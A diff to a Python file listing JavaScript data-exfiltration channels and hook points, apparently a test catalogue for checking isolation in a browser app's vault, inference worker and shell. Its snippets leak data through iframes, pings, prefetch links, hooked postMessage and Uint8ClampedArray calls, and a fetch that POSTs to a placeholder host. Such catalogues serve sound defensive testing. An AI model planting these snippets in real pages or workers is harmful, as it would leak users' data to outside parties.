@@ -47,7 +47,6 @@ VAULT_CHANNELS: dict[str, str] = {
     "frame": "add('iframe', { src: url(data) }, document.body)",
     "empty frame's fetch": "add('iframe', {}, document.body).contentWindow.fetch(url(data), { mode: 'no-cors' })",
     "srcdoc frame's image": "add('iframe', { srcdoc: `<img src=\"${url(data)}\">` }, document.body)",
-    "speculation rules": "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [url(data).replace('http:', 'https:')], eagerness: 'immediate' }] }) }, document.head)",
     "ping": "add('a', { href: '#', ping: url(data) }, document.body).click()",
     "DNS prefetch link": "add('link', { rel: 'dns-prefetch', href: url(data) }, document.head)",
     "preconnect link": "add('link', { rel: 'preconnect', href: url(data) }, document.head)",
@@ -68,7 +67,7 @@ VAULT_CHANNELS: dict[str, str] = {
 ENGINE_PLACES: dict[str, str] = {
     "when an image comes": "self.addEventListener('message', ({ data }) => data?.type === 'predict' && leak(String(data.image.byteLength)));",
     "when an answer goes": "const post = self.postMessage; self.postMessage = (message, ...rest) => { if (message?.answer?.width) leak(String(message.answer.probabilities)); return post.call(self, message, ...rest); };",
-    "when a tensor is computed": "const Instance = WebAssembly.Instance; let seen = 0; WebAssembly.Instance = new Proxy(Instance, { construct(target, all) { const made = new target(...all); seen += 1; setTimeout(() => leak(`tensor ${seen}`), 3000); return made; } }); self.addEventListener('message', ({ data }) => data?.type === 'predict' && leak(`tensor of ${data.image.byteLength}`));",
+    "when pixels are shrunk": "let busy = false; self.addEventListener('message', ({ data }) => { busy = data?.type === 'predict'; }); self.Uint8ClampedArray = new Proxy(self.Uint8ClampedArray, { construct(target, all) { if (busy) leak(`pixels ${all[0]}`); return Reflect.construct(target, all); } });",
 }
 
 ENGINE_CHANNELS: dict[str, str] = {
@@ -86,6 +85,7 @@ SHELL_CHANNELS: dict[str, str] = {
     "request to the own server": "fetch(`../assets/x?${encodeURIComponent(data)}`)",
     "foreign request": "fetch(`http://${H}/leak`, { method: 'POST', mode: 'no-cors', body: data })",
     "image of the own server": "new Image().src = `../x.png?${encodeURIComponent(data)}`",
+    "icon of the own server": "document.querySelector('link[rel=icon]').href = `../x.svg?${encodeURIComponent(data)}`",
     "title": "document.title = data",
     "fragment of the address": "history.replaceState(null, '', '#' + data)",
     "path of the address": "history.pushState(null, '', './' + encodeURIComponent(data))",
